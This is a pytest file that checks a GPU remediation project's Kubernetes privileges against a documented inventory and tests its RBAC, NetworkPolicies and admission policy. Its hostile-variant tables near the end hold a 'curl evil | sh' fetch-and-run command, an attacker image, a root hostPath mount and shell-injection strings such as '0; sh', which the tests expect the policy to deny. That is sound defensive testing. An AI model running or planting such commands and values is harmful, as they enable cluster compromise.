"""Every privilege the shipped Kubernetes objects grant is documented (issue 34, items 5 and 6).

The chart is rendered with the real helm (`helm template`: the defaults, and the
kube-prometheus-stack example with every part on) and the kustomizations are read (`kubectl
kustomize` when kubectl is installed, else the files they list). From every pod spec and RBAC rule
the test lists the privileges: hostPID / hostNetwork / hostIPC, hostPath volumes, a service-account
token, uid or gid 0, privileged, privilege escalation, added capabilities, capabilities not all
dropped, a writable root filesystem, seccomp not confined, supplemental groups, and every RBAC
verb on every resource. The recovery and diagnostic Jobs the receiver creates at run time are
listed from remediate/kubernetes.py's own templates. The list must equal the table "Privilege inventory" in
docs/security.md: a new privilege fails until it is documented there (with why), and a row that no
longer matches anything fails too.

The NetworkPolicies and the ValidatingAdmissionPolicy are checked structurally (the expressions
balanced, naming the Jobs' images and commands), and the policy is evaluated by cel-go
(tools/celcheck) against the Jobs the receiver really builds and hostile variants of them.
"""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.stack.test_helm import CHART, KPS_VALUES, NAMESPACE, helm, template  # noqa: F401  (fixture)

REPO = Path(__file__).resolve().parents[2]
KDIR = REPO / "deploy" / "kubernetes"
SECURITY_MD = REPO / "docs" / "security.md"
INVENTORY_HEADING = "### Privilege inventory"
WORKLOAD_KINDS = {"DaemonSet", "Deployment", "StatefulSet", "Job", "CronJob", "Pod", "ReplicaSet"}
RBAC_KINDS = {"Role", "ClusterRole"}
REMEDIATE_ON = "remediate.enabled=true,report.enabled=true"


# --- rendering ------------------------------------------------------------------------------------


def kustomize(directory: Path) -> list[dict[str, Any]]:
    kubectl = shutil.which("kubectl")
    if kubectl:
        result = subprocess.run(
            [kubectl, "kustomize", str(directory)], capture_output=True, text=True, timeout=60
        )
        assert result.returncode == 0, result.stderr
        return [d for d in yaml.safe_load_all(result.stdout) if d]
    names = yaml.safe_load((directory / "kustomization.yaml").read_text())["resources"]
    return [d for name in names for d in yaml.safe_load_all((directory / name).read_text()) if d]


@pytest.fixture(scope="module")
def renderings(helm: str) -> dict[str, list[dict[str, Any]]]:  # noqa: F811
    return {
        "helm defaults": template(helm),
        "helm with the receiver and report": template(helm, "--set", REMEDIATE_ON),
        "helm with DRA attribution": template(helm, "--set", "exporter.draAttribution.enabled=true"),
        "helm kube-prometheus-stack example": template(helm, "-f", str(KPS_VALUES)),
        "kustomize": kustomize(KDIR),
        "kustomize remediate": kustomize(KDIR / "remediate"),
    }


# --- the privilege list ---------------------------------------------------------------------------


def component(obj: dict[str, Any]) -> str:
    """`gpulens-<part>`: the name both the chart (release gpulens) and the kustomizations give it."""
    text: str = obj["metadata"]["name"]
    return text


def pod_spec(obj: dict[str, Any]) -> dict[str, Any] | None:
    spec = obj.get("spec") or {}
    if obj["kind"] == "Pod":
        return spec
    if obj["kind"] == "CronJob":
        spec = spec["jobTemplate"]["spec"]
    template_ = spec.get("template")
    return template_["spec"] if template_ else None


def security_privileges(context: dict[str, Any], container: bool) -> set[str]:
    found: set[str] = set()
    if context.get("runAsUser") == 0:
        found.add("runAsUser 0")
    if context.get("runAsGroup") == 0:
        found.add("runAsGroup 0")
    if context.get("runAsNonRoot") is False:
        found.add("runAsNonRoot false")
    if context.get("privileged"):
        found.add("privileged")
    if context.get("procMount") == "Unmasked":
        found.add("procMount Unmasked")
    seccomp = (context.get("seccompProfile") or {}).get("type")
    if seccomp == "Unconfined":
        found.add("seccomp Unconfined")
    for group in context.get("supplementalGroups") or ():
        found.add(f"supplementalGroup {group}")
    if container:
        if context.get("allowPrivilegeEscalation") is not False:
            found.add("allowPrivilegeEscalation")
        if context.get("readOnlyRootFilesystem") is not True:
            found.add("writable root filesystem")
        capabilities = context.get("capabilities") or {}
        if "ALL" not in (capabilities.get("drop") or ()):
            found.add("capabilities not dropped")
        for capability in capabilities.get("add") or ():
            found.add(f"capability {capability}")
    return found


def pod_privileges(spec: dict[str, Any]) -> set[str]:
    found: set[str] = set()
    for field in ("hostPID", "hostNetwork", "hostIPC"):
        if spec.get(field):
            found.add(field)
    if spec.get("automountServiceAccountToken") is not False:
        found.add("service account token")
    for volume in spec.get("volumes") or ():
        if "hostPath" in volume:
            found.add(f"hostPath {volume['hostPath']['path']}")
    pod_context = spec.get("securityContext") or {}
    found |= security_privileges(pod_context, container=False)
    pod_seccomp = (pod_context.get("seccompProfile") or {}).get("type")
    for container in [*spec.get("initContainers", ()), *spec["containers"]]:
        context = dict(container.get("securityContext") or {})
        if pod_seccomp and "seccompProfile" not in context:
            context["seccompProfile"] = pod_context["seccompProfile"]
        if not (context.get("seccompProfile") or {}).get("type"):
            found.add("seccomp not set")
        found |= security_privileges(context, container=True)
    return found


def rbac_privileges(role: dict[str, Any]) -> set[str]:
    found = set()
    for rule in role.get("rules") or ():
        names = rule.get("resourceNames")
        for group in rule.get("apiGroups") or ("",):
            for resource in rule.get("resources") or ():
                qualified = f"{group}/{resource}" if group else resource
                if names:
                    qualified += "[" + ",".join(names) + "]"
                for verb in rule["verbs"]:
                    found.add(f"{role['kind']} {verb} {qualified}")
    return found


def privileges(objects: list[dict[str, Any]]) -> set[tuple[str, str]]:
    found = set()
    for obj in objects:
        if obj["kind"] in WORKLOAD_KINDS and (spec := pod_spec(obj)) is not None:
            found |= {(component(obj), p) for p in pod_privileges(spec)}
        if obj["kind"] in RBAC_KINDS:
            found |= {(component(obj), p) for p in rbac_privileges(obj)}
    return found


DIAG_LEVEL = 2  # the receiver's --diag-level default, which both deployments pass


def recovery_jobs() -> list[dict[str, Any]]:
    """The Jobs the receiver creates at run time, from its own templates: one per recovery action,
    and the return diagnostic's for a GPU-level and a node-level episode."""
    import dataclasses

    from gpulens.remediate.episodes import Recovery
    from gpulens.remediate.kubernetes import KubernetesClient, KubernetesIsolator

    isolator = KubernetesIsolator(KubernetesClient("https://127.0.0.1:6443"))
    jobs = []
    for recovery in (Recovery.RESET_GPU, Recovery.REBOOT_NODE):
        episode = _episode(recovery)
        jobs.append(isolator.job(episode))
    gpu_episode = dataclasses.replace(_episode(Recovery.RESET_GPU), gpu="0")
    node_episode = dataclasses.replace(_episode(Recovery.REBOOT_NODE), gpu="", uuid="")
    for episode in (gpu_episode, node_episode):
        jobs.append(isolator.diagnostic_job(episode, DIAG_LEVEL))
    return jobs


def job_kind(job: dict[str, Any]) -> str:
    """`reset_gpu`, `reboot_node`, `diagnose GPU 0` or `diagnose node`: one name per shipped Job."""
    action: str = job["metadata"]["labels"]["gpulens.io/action"]
    if action != "diagnose":
        return action
    command = job["spec"]["template"]["spec"]["containers"][0]["command"]
    return f"diagnose GPU {command[command.index('--gpu') + 1]}" if "--gpu" in command else "diagnose node"


def _episode(recovery: Any) -> Any:
    import dataclasses

    from gpulens.remediate.episodes import Episode

    fields = {f.name: f for f in dataclasses.fields(Episode)}
    values: dict[str, Any] = {}
    for name, field in fields.items():
        if field.default is not dataclasses.MISSING or field.default_factory is not dataclasses.MISSING:
            continue
        values[name] = {"node": "gpu-node-1", "gpu": "0", "id": "episode-1"}.get(name, "")
    episode = Episode(**values)
    episode = dataclasses.replace(episode, recovery=recovery, uuid="GPU-0a1b2c3d-0000-1111-2222-333344445555")
    return episode


def recovery_privileges() -> set[tuple[str, str]]:
    found = set()
    for job in recovery_jobs():
        action = job["metadata"]["labels"]["gpulens.io/action"]
        name = "diagnostic Job" if action == "diagnose" else f"recovery Job {action}"
        found |= {(name, p) for p in pod_privileges(job["spec"]["template"]["spec"])}
    return found


def documented() -> set[tuple[str, str]]:
    """The (component, privilege) rows of docs/security.md's privilege inventory table."""
    text = SECURITY_MD.read_text()
    assert INVENTORY_HEADING in text, f"docs/security.md has no {INVENTORY_HEADING!r} section"
    section = text.split(INVENTORY_HEADING, 1)[1]
    rows = set()
    for line in section.splitlines()[1:]:
        if line.startswith("#"):
            break
        if not line.startswith("|") or set(line) <= set("|-: "):
            continue
        cells = [c.strip().strip("`") for c in line.strip().strip("|").split("|")]
        if cells[:2] == ["component", "privilege"]:
            continue
        assert len(cells) >= 3 and cells[2], f"a privilege row needs a reason: {line}"
        rows.add((cells[0], cells[1]))
    assert rows, "the privilege inventory table is empty"
    return rows


# --- tests ----------------------------------------------------------------------------------------


def test_every_privilege_granted_is_in_the_documented_inventory_and_nothing_else(renderings):
    granted: dict[tuple[str, str], set[str]] = {}
    for where, objects in renderings.items():
        for item in privileges(objects):
            granted.setdefault(item, set()).add(where)
    for item in recovery_privileges():
        granted.setdefault(item, set()).add("remediate/kubernetes.py")
    table = documented()
    undocumented = sorted(set(granted) - table)
    assert not undocumented, "privileges granted but not in docs/security.md's inventory:\n" + "\n".join(
        f"| `{c}` | `{p}` | ... |   (from {', '.join(sorted(granted[(c, p)]))})" for c, p in undocumented
    )
    stale = sorted(table - set(granted))
    assert not stale, f"rows of the inventory that nothing grants any more: {stale}"


def test_the_privilege_list_sees_what_it_must():
    """The extractor itself: a pod with every kind of privilege yields each of them."""
    pod = {
        "hostPID": True,
        "hostNetwork": True,
        "volumes": [{"name": "h", "hostPath": {"path": "/etc"}}],
        "securityContext": {"supplementalGroups": [44]},
        "containers": [
            {
                "name": "c",
                "securityContext": {
                    "runAsUser": 0,
                    "privileged": True,
                    "capabilities": {"add": ["SYS_ADMIN"]},
                    "seccompProfile": {"type": "Unconfined"},
                },
            }
        ],
    }
    assert pod_privileges(pod) == {
        "hostPID",
        "hostNetwork",
        "hostPath /etc",
        "service account token",
        "supplementalGroup 44",
        "runAsUser 0",
        "privileged",
        "capability SYS_ADMIN",
        "seccomp Unconfined",
        "allowPrivilegeEscalation",
        "writable root filesystem",
        "capabilities not dropped",
    }
    role = {"kind": "Role", "rules": [{"apiGroups": ["batch"], "resources": ["jobs"], "verbs": ["create"]}]}
    assert rbac_privileges(role) == {"Role create batch/jobs"}


def test_the_receivers_rbac_is_exactly_the_calls_its_code_makes(renderings):
    """remediate/kubernetes.py and kubestate.py: GET/PATCH a node, list nodes (resume episodes), list
    pods (drain, reboot gate), POST pods/eviction, POST/GET jobs in its namespace, GET/PATCH/POST its
    breaker ConfigMap; dra.py: list ResourceSlices, create/get/delete DeviceTaintRules (its own GPU
    fences: the only delete). No update, no secrets, no pods/exec, no wildcard."""
    expected = {
        ("gpulens-remediate", "ClusterRole get nodes"),
        ("gpulens-remediate", "ClusterRole list nodes"),
        ("gpulens-remediate", "ClusterRole patch nodes"),
        ("gpulens-remediate", "ClusterRole list pods"),
        ("gpulens-remediate", "ClusterRole create pods/eviction"),
        ("gpulens-remediate", "ClusterRole list resource.k8s.io/resourceslices"),
        ("gpulens-remediate", "ClusterRole create resource.k8s.io/devicetaintrules"),
        ("gpulens-remediate", "ClusterRole get resource.k8s.io/devicetaintrules"),
        ("gpulens-remediate", "ClusterRole delete resource.k8s.io/devicetaintrules"),
        ("gpulens-remediate", "Role create batch/jobs"),
        ("gpulens-remediate", "Role get batch/jobs"),
        ("gpulens-remediate", "Role get configmaps[gpulens-remediate-breaker]"),
        ("gpulens-remediate", "Role patch configmaps[gpulens-remediate-breaker]"),
        ("gpulens-remediate", "Role create configmaps"),
    }
    for where in ("helm with the receiver and report", "kustomize remediate"):
        roles = [o for o in renderings[where] if o["kind"] in RBAC_KINDS]
        assert {(component(r), p) for r in roles for p in rbac_privileges(r)} == expected, where
        for role in roles:
            for rule in role["rules"]:
                assert "*" not in rule["verbs"] + rule["resources"] + rule["apiGroups"], where
    # nothing else in the defaults has RBAC
    assert not [o for o in renderings["helm defaults"] if o["kind"] in RBAC_KINDS | {"ClusterRoleBinding"}]


def test_the_receivers_state_is_on_a_claim_by_default(renderings):
    for where in ("helm with the receiver and report", "kustomize remediate"):
        objects = renderings[where]
        (deployment,) = [o for o in objects if o["kind"] == "Deployment" and "remediate" in component(o)]
        volumes = {v["name"]: v for v in deployment["spec"]["template"]["spec"]["volumes"]}
        claim = volumes["state"]["persistentVolumeClaim"]["claimName"]
        assert claim in {o["metadata"]["name"] for o in objects if o["kind"] == "PersistentVolumeClaim"}
    ephemeral = kustomize(KDIR / "remediate-ephemeral-state")
    (deployment,) = [o for o in ephemeral if o["kind"] == "Deployment"]
    volumes = {v["name"]: v for v in deployment["spec"]["template"]["spec"]["volumes"]}
    assert volumes["state"] == {"name": "state", "emptyDir": {}}
    assert not [o for o in ephemeral if o["kind"] == "PersistentVolumeClaim"]
    assert "WARNING" in (KDIR / "remediate-ephemeral-state" / "kustomization.yaml").read_text()


# --- NetworkPolicies ------------------------------------------------------------------------------


def _peers(policy: dict[str, Any]) -> list[dict[str, Any]]:
    (rule,) = policy["spec"]["ingress"]
    items: list[dict[str, Any]] = rule["from"]
    return items


def _labels(peer: dict[str, Any]) -> tuple[str, str]:
    namespace = peer["namespaceSelector"]["matchLabels"]["kubernetes.io/metadata.name"]
    return namespace, peer["podSelector"]["matchLabels"]["app.kubernetes.io/name"]


def _selects(policy: dict[str, Any], obj: dict[str, Any]) -> bool:
    wanted = policy["spec"]["podSelector"]["matchLabels"]
    labels = obj["spec"]["template"]["metadata"]["labels"]
    return all(labels.get(k) == v for k, v in wanted.items())


@pytest.mark.parametrize("where", ["helm with the receiver and report", "kustomize", "kustomize remediate"])
def test_network_policies_admit_only_prometheus_and_alertmanager(renderings, where):
    objects = renderings[where]
    policies = [o for o in objects if o["kind"] == "NetworkPolicy"]
    workloads = [o for o in objects if o["kind"] in {"DaemonSet", "Deployment"}]
    assert workloads
    for workload in workloads:
        (policy,) = [p for p in policies if _selects(p, workload)]
        assert policy["spec"]["policyTypes"] == ["Ingress"]
        (rule,) = policy["spec"]["ingress"]
        container_ports = {
            p["name"] for c in workload["spec"]["template"]["spec"]["containers"] for p in c["ports"]
        }
        assert [p["port"] for p in rule["ports"]] == [next(iter(container_ports))]
        peers = {_labels(p) for p in rule["from"]}
        if workload["kind"] == "DaemonSet":
            assert peers == {("monitoring", "prometheus")}, where
        else:
            assert peers == {("monitoring", "prometheus"), ("monitoring", "alertmanager")}, where


def test_network_policy_peers_come_from_values(helm):  # noqa: F811
    objects = template(
        helm,
        "--set",
        "remediate.enabled=true,networkPolicy.prometheus.namespaceSelector.matchLabels.kubernetes\\.io/metadata\\.name=obs",
    )
    for policy in [o for o in objects if o["kind"] == "NetworkPolicy"]:
        assert ("obs", "prometheus") in {_labels(p) for p in _peers(policy)}
    off = template(helm, "--set", "remediate.enabled=true,networkPolicy.enabled=false")
    assert not [o for o in off if o["kind"] == "NetworkPolicy"]


# --- the ValidatingAdmissionPolicy ----------------------------------------------------------------


def _balanced(expression: str) -> bool:
    depth: list[str] = []
    pairs = {")": "(", "]": "[", "}": "{"}
    quote = None
    for char in expression:
        if quote:
            if char == quote:
                quote = None
            continue
        if char in "'\"":
            quote = char
        elif char in "([{":
            depth.append(char)
        elif char in pairs and (not depth or depth.pop() != pairs[char]):
            return False
    return not depth and quote is None


def _policy(objects: list[dict[str, Any]]) -> tuple[dict[str, Any], dict[str, Any]]:
    (policy,) = [o for o in objects if o["kind"] == "ValidatingAdmissionPolicy"]
    (binding,) = [o for o in objects if o["kind"] == "ValidatingAdmissionPolicyBinding"]
    return policy, binding


@pytest.mark.parametrize("where", ["helm with the receiver and report", "kustomize remediate"])
def test_the_admission_policy_admits_only_the_shipped_recovery_jobs(renderings, where):
    objects = renderings[where]
    policy, binding = _policy(objects)
    assert policy["apiVersion"] == binding["apiVersion"] == "admissionregistration.k8s.io/v1"
    assert binding["spec"]["policyName"] == policy["metadata"]["name"]
    assert binding["spec"]["validationActions"] == ["Deny"]
    spec = policy["spec"]
    assert spec["failurePolicy"] == "Fail"
    (rule,) = spec["matchConstraints"]["resourceRules"]
    assert (rule["apiGroups"], rule["resources"]) == (["batch"], ["jobs"])
    assert "CREATE" in rule["operations"]
    # only requests of the receiver's own service account
    (deployment,) = [o for o in objects if o["kind"] == "Deployment" and "remediate" in component(o)]
    account = deployment["spec"]["template"]["spec"]["serviceAccountName"]
    namespace = deployment["metadata"].get("namespace", NAMESPACE)
    (condition,) = spec["matchConditions"]
    assert condition["expression"] == (
        f"request.userInfo.username == 'system:serviceaccount:{namespace}:{account}'"
    )
    expressions = [v["expression"] for v in spec["validations"]] + [
        v["expression"] for v in spec["variables"]
    ]
    for expression in [*expressions, condition["expression"]]:
        assert _balanced(expression), expression
        assert "object" in expression or "request" in expression or "variables" in expression, expression
    for validation in spec["validations"]:
        assert validation["message"]
    joined = "\n".join(expressions)
    # the image the receiver is told to use, and the commands of its templates
    (container,) = deployment["spec"]["template"]["spec"]["containers"]
    (image,) = [a.split("=", 1)[1] for a in container["args"] if a.startswith("--job-image=")]
    (diag_image,) = [a.split("=", 1)[1] for a in container["args"] if a.startswith("--diag-image=")]
    assert f"c.image == '{image}'" in joined
    assert f"c.image == '{diag_image}'" in joined
    assert len({job_kind(job) for job in recovery_jobs()}) == len(recovery_jobs())
    assert diag_image == container["image"], "the diagnostic runs the receiver's own image"
    assert f"request.namespace == '{namespace}'" in joined
    commands = {
        job_kind(job): job["spec"]["template"]["spec"]["containers"][0]["command"] for job in recovery_jobs()
    }
    assert "[" + ", ".join(f"'{part}'" for part in commands["reboot_node"]) + "]" in joined
    for index, part in enumerate(commands["reset_gpu"][:3]):
        assert f"c.command[{index}] == '{part}'" in joined
    for index, part in enumerate(commands["diagnose GPU 0"]):
        if part.startswith("--") or index < 3:
            assert f"c.command[{index}] == '{part}'" in joined
    # what the policy must refuse is named: volumes, host namespaces, other accounts, env
    for field in (
        "volumes",
        "hostNetwork",
        "hostIPC",
        "hostPID",
        "serviceAccountName",
        "envFrom",
        "volumeMounts",
    ):
        assert f"variables.pod.{field}" in joined or f"c.{field}" in joined, field


def celcheck() -> str:
    """tools/celcheck: $GPULENS_CELCHECK (make test sets it), else the cache `make celcheck` builds."""
    import os

    binary = Path(
        os.environ.get("GPULENS_CELCHECK") or Path.home() / ".cache" / "gpulens-tools" / "bin" / "celcheck"
    )
    if not binary.exists():
        if shutil.which("go") is None:
            pytest.skip("Go is not installed: tools/celcheck cannot be built")
        subprocess.run(["make", "-s", "celcheck"], cwd=REPO, check=True, timeout=900)
    return str(binary)


def _verdicts(
    policy: dict[str, Any], cases: dict[str, tuple[dict[str, Any], dict[str, Any]]]
) -> dict[str, Any]:
    """name -> cel-go's verdict on (object, request) for the policy as rendered."""
    import json

    stdin = {
        "policy": policy,
        "cases": [{"name": n, "object": o, "request": r} for n, (o, r) in cases.items()],
    }
    done = subprocess.run([celcheck()], input=json.dumps(stdin), capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    return {v["name"]: v for v in json.loads(done.stdout)}


# Jobs a stolen receiver token might send instead of the shipped ones: each must be denied
HOSTILE = {
    "another image": lambda p: p["containers"][0].update(image="attacker/root:latest"),
    "a shell": lambda p: p["containers"][0].update(command=["sh", "-c", "curl evil | sh"]),
    "a reset of something that is no GPU": lambda p: p["containers"][0].update(
        command=["nvidia-smi", "-r", "-i", "0; sh"]
    ),
    "a hostPath volume": lambda p: p.update(volumes=[{"name": "root", "hostPath": {"path": "/"}}]),
    "host network": lambda p: p.update(hostNetwork=True),
    "the receiver's own account": lambda p: p.update(serviceAccountName="gpulens-remediate"),
    "extra args": lambda p: p["containers"][0].update(args=["--", "sh"]),
    "a second container": lambda p: p["containers"].append(dict(p["containers"][0], name="second")),
    "a secret in the environment": lambda p: p["containers"][0].update(
        env=[{"name": "T", "valueFrom": {"secretKeyRef": {"name": "s", "key": "k"}}}]
    ),
    "no node": lambda p: p.pop("nodeName", None),
}

# ...and variants of the diagnostic Job, which must stay unprivileged and run `gpulens remediate diag`
DIAG_HOSTILE = {
    "a privileged securityContext": lambda p: p["containers"][0]["securityContext"].update(privileged=True),
    "hostPID": lambda p: p.update(hostPID=True),
    "privilege escalation": lambda p: p["containers"][0]["securityContext"].update(
        allowPrivilegeEscalation=True
    ),
    "no securityContext": lambda p: p["containers"][0].pop("securityContext"),
    "an added capability": lambda p: p["containers"][0]["securityContext"].update(
        capabilities={"add": ["SYS_ADMIN"]}
    ),
    "a root pod securityContext": lambda p: p.update(securityContext={"runAsUser": 0}),
    "the service-account token": lambda p: p.update(automountServiceAccountToken=True),
    "another gpulens command": lambda p: p["containers"][0].update(
        command=["gpulens", "remediate", "--apply", "--backend", "kubernetes"]
    ),
    "a shell in the UUID": lambda p: p["containers"][0]["command"].__setitem__(-1, "GPU-1; sh -c id"),
    "a level DCGM has not": lambda p: p["containers"][0]["command"].__setitem__(4, "5"),
    "a GPU that is no index": lambda p: p["containers"][0]["command"].__setitem__(6, "0 --dcgmi=/bin/sh"),
    "an extra argument": lambda p: p["containers"][0]["command"].extend(["--dcgmi", "/bin/sh"]),
    "the recovery image": lambda p: p["containers"][0].update(
        image="nvcr.io/nvidia/cuda:12.4.1-base-ubuntu22.04"
    ),
}


@pytest.mark.parametrize("where", ["helm with the receiver and report", "kustomize remediate"])
def test_a_real_cel_evaluator_admits_the_shipped_recovery_jobs_and_denies_anything_else(renderings, where):
    """The rendered policy's own CEL, evaluated by cel-go (tools/celcheck), on the Jobs the receiver
    builds at run time (remediate/kubernetes.py) and on hostile variants of them."""
    import copy

    objects = renderings[where]
    policy, _ = _policy(objects)
    (deployment,) = [o for o in objects if o["kind"] == "Deployment" and "remediate" in component(o)]
    account = deployment["spec"]["template"]["spec"]["serviceAccountName"]
    namespace = deployment["metadata"].get("namespace", NAMESPACE)
    (container,) = deployment["spec"]["template"]["spec"]["containers"]
    args = dict(a.split("=", 1) for a in container["args"] if a.startswith("--") and "=" in a)
    receiver = {
        "namespace": namespace,
        "userInfo": {"username": f"system:serviceaccount:{namespace}:{account}"},
    }
    cases: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {}
    for job in recovery_jobs():
        action = job["metadata"]["labels"]["gpulens.io/action"]
        kind = job_kind(job)
        for c in job["spec"]["template"]["spec"]["containers"]:
            # the image the receiver is told to use (--job-image, --diag-image)
            c["image"] = args["--diag-image" if action == "diagnose" else "--job-image"]
        cases[f"{kind}: shipped"] = (job, receiver)
        cases[f"{kind}: in kube-system"] = (job, dict(receiver, namespace="kube-system"))
        cases[f"{kind}: from a person"] = (job, dict(receiver, userInfo={"username": "alice"}))
        hostile = dict(HOSTILE, **DIAG_HOSTILE) if kind == "diagnose GPU 0" else HOSTILE
        for name, mutate in hostile.items():
            bad = copy.deepcopy(job)
            mutate(bad["spec"]["template"]["spec"])
            cases[f"{kind}: {name}"] = (bad, receiver)
        relabelled = copy.deepcopy(job)  # a shipped Job under another action's label
        other = "reset_gpu" if action == "diagnose" else "diagnose"
        relabelled["metadata"]["labels"]["gpulens.io/action"] = other
        cases[f"{kind}: labelled {other}"] = (relabelled, receiver)
    assert int(args["--diag-level"]) == DIAG_LEVEL
    verdicts = _verdicts(policy, cases)
    assert set(verdicts) == set(cases)
    for name, verdict in verdicts.items():
        assert verdict["error"] == "", (name, verdict)
        if name.endswith(": shipped"):
            assert verdict["matched"] and verdict["denied"] == [], (name, verdict)
        elif name.endswith(": from a person"):
            assert not verdict["matched"], name  # the policy binds the receiver's account only
        else:
            assert verdict["matched"] and verdict["denied"], (name, verdict)


def test_the_exporters_dra_rbac_is_exactly_the_list_its_code_makes(renderings):
    """exporter/attribution/resourceslices.py lists its node's ResourceSlices and calls nothing
    else: the chart grants that list (with a token) only when DRA attribution is on."""
    source = (REPO / "exporter" / "attribution" / "resourceslices.py").read_text()
    assert '"GET"' in source and not any(
        verb in source for verb in ('"POST"', '"PATCH"', '"PUT"', '"DELETE"')
    )
    on = privileges(renderings["helm with DRA attribution"])
    mine = {p for c, p in on if c == "gpulens-exporter" and (p.startswith("ClusterRole") or "token" in p)}
    assert mine == {"service account token", "ClusterRole list resource.k8s.io/resourceslices"}
    off = privileges(renderings["helm defaults"])
    assert not {
        p for c, p in off if c == "gpulens-exporter" and (p.startswith("ClusterRole") or "token" in p)
    }
